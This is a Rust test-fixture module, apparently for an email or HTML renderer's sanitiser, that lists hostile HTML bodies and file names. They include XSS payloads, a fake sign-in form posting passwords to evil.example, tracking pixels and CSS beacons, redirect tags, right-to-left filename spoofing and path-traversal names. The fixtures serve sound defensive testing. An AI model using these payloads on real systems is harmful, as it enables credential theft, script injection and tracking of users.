//! Bodies of records: plain ones, and those that are written to do harm (security.md §5.2).
//!
//! The addresses in them are reserved names, so that what does load them reaches nobody.

/// HTML that tries what HTML can, one attempt a record: title, and body.
pub(super) const HOSTILE: &[(&str, &str)] = &[
    (
        "Script <script>alert(1)</script> in the title",
        "<p>Before</p><script>alert(document.domain)</script><img src=x onerror=\"alert(1)\"><p>After</p>",
    ),
    (
        "A form and a frame",
        "<form action=\"https://evil.example/steal\"><input name=password><button>Sign in again</button></form>\
         <iframe src=\"https://evil.example/\"></iframe><p>Words of the form</p>",
    ),
    (
        "Pictures that tell",
        "<p>Seen?</p><img src=\"https://tracker.example/pixel.gif?who=120\" width=1 height=1>\
         <img srcset=\"https://tracker.example/2x.png 2x\"><picture><source srcset=\"//tracker.example/p.webp\"></picture>\
         <video poster=\"https://tracker.example/p.jpg\"></video><table background=\"https://tracker.example/t.png\">\
         <tr><td>cell</td></tr></table>",
    ),
    (
        "Links that run",
        "<a href=\"javascript:alert(1)\">run</a> <a href=\" jAvAsCrIpT:alert(1)\">run again</a> \
         <a href=\"data:text/html,<script>alert(1)</script>\">data</a> <a href=\"https://www.example.org/\">good</a>",
    ),
    (
        "Styles that reach out",
        "<style>@import url(https://tracker.example/s.css);body{background:url(https://tracker.example/b.png)}</style>\
         <p style=\"position:fixed;inset:0;background:url('https://tracker.example/i.png');z-index:9999\">Over everything</p>\
         <link rel=stylesheet href=\"https://tracker.example/l.css\"><base href=\"https://evil.example/\">\
         <meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    ),
    (
        "Markup that breaks readers",
        "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><!--</style>\
         <img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\
         <template><script>alert(1)</script></template><p>Readable end</p>",
    ),
    (
        "Unclosed and upside down \u{202e}txt.exe",
        "<div><div><div><b><i><a href='https://www.example.org/'>open <p>\u{202e}gnp.exe\u{202c} <table><tr><td>cell<!-- no end",
    ),
    (
        "Outlook's own",
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><!--[if gte mso 9]><xml><o:x/></xml><![endif]-->\
         <style>p.MsoNormal{margin:0}</style></head><body><p class=MsoNormal>Dear all,<o:p></o:p></p>\
         <p class=MsoNormal><img src=\"cid:image001.png@01D9\"> regards</p><object data=\"https://evil.example/x.swf\"></object>\
         </body></html>",
    ),
];

/// Names of files that try to be paths, other types or markup.
pub(super) const HOSTILE_NAMES: &[&str] =
    &["../../etc/passwd", "C:\\Windows\\system.ini", "invoice.pdf\u{202e}gpj.exe", "<img src=x onerror=alert(1)>.txt"];

/// HTML of about so many bytes.
pub(super) fn huge(bytes: usize) -> String {
    let line = "<tr><td>Item</td><td>A line of the yearly statement, one of very many</td><td>12.00</td></tr>\n";
    let mut body = String::with_capacity(bytes + 200);
    body.push_str("<html><body><h1>Statement</h1><table>");
    while body.len() < bytes {
        body.push_str(line);
    }
    body.push_str("</table><p>The end of the statement</p></body></html>");
    body
}
